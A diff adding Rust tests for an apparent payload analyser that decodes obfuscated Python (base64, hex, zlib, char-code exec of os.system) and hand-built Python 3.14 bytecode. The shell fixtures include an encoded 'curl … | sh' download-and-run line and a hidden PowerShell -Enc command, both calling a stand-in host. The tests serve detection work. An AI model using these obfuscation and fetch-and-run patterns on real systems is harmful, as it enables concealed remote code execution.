@@ -150,6 +150,60 @@ fn source_is_followed_to_the_names_it_uses() {
     );
 }
 
+/// What python3 writes for `base64.b64encode(zlib.compress(b"import os; os.system('id')"))`.
+const PACKED: &str = "eJzLzC3ILypRyC+2BmK94sriktRcDfXMFHVNAINXCRo=";
+
+#[test]
+fn code_in_another_form_is_read() {
+    for text in [
+        "exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))",
+        "exec(bytes.fromhex('696d706f7274206f733b206f732e73797374656d2827696427290a'))",
+        &format!("import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'{PACKED}')))"),
+        "exec(''.join(map(chr, [105,109,112,111,114,116,32,111,115,59,32,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41])))",
+        "exec(bytes((105,109,112,111,114,116,32,111,115,59,32,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41)))",
+    ] {
+        let summary = source(text);
+        assert_has(&summary.calls, &["os.system", "builtins.exec"], text);
+        assert_has(&summary.notes, &["decodes more code"], text);
+    }
+    let shell = |text: &str| summarize(PayloadKind::Shell, text.as_bytes());
+    let piped = shell("echo Y3VybCBodHRwOi8veC5leGFtcGxlL2EgfCBzaA== | base64 -d | sh");
+    assert_eq!(piped.calls, ["echo", "base64", "sh", "curl"]);
+    assert_has(&piped.contacts, &["http://x.example/a"], "piped");
+    let windows = shell(
+        "powershell.exe -w hidden -Enc YwB1AHIAbAAgAGgAdAB0AHAAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALwBhAA==",
+    );
+    assert_eq!(windows.calls, ["powershell", "curl"]);
+    assert_has(&windows.contacts, &["http://x.example/a"], "windows");
+    let plain = source(
+        "x = ['international', 'deadbeefdeadbeef', 'AbsolutePositioning', (1, 2, 3, 4, 5, 6, 7, 8, 9)]",
+    );
+    assert!(plain.notes.is_empty(), "{plain:?}");
+}
+
+/// `import os; os.system('id')` as 3.14 compiles it: the numbers are those of its opcode table.
+#[test]
+fn code_objects_of_the_newest_version_are_read() {
+    let bytecode = [
+        128, 0, 94, 0, 82, 1, 73, 0, 116, 0, 93, 0, 80, 3, 0, 0, 82, 0, 52, 1, 0, 0, 31, 0, 82, 1,
+        35, 0,
+    ];
+    let length = |data: &[u8]| u8::try_from(data.len()).unwrap();
+    let short = |text: &[u8]| [&[b'z', length(text)], text].concat();
+    let mut code = vec![0xe3];
+    code.extend([0u8; 20]);
+    code.extend([&[b's', length(&bytecode), 0, 0, 0][..], &bytecode].concat());
+    code.extend([&[b')', 2][..], &short(b"id"), b"N"].concat());
+    code.extend([&[b')', 2][..], &short(b"os"), &short(b"system")].concat());
+    code.extend([b')', 0, b's', 0, 0, 0, 0]);
+    code.extend([short(b"f.py"), short(b"<module>"), short(b"<module>")].concat());
+    code.extend([0, 0, 0, 0, b's', 0, 0, 0, 0, b's', 0, 0, 0, 0]);
+    let summary = summarize(PayloadKind::CodeObject, &code);
+    assert_has(&summary.imports, &["os"], "3.14");
+    assert_has(&summary.names, &["os.system"], "3.14");
+    assert_eq!(summary.notes, ["defines <module> from f.py"]);
+}
+
 #[test]
 fn commands_are_taken_apart() {
     let shell = |text: &str| summarize(PayloadKind::Shell, text.as_bytes());
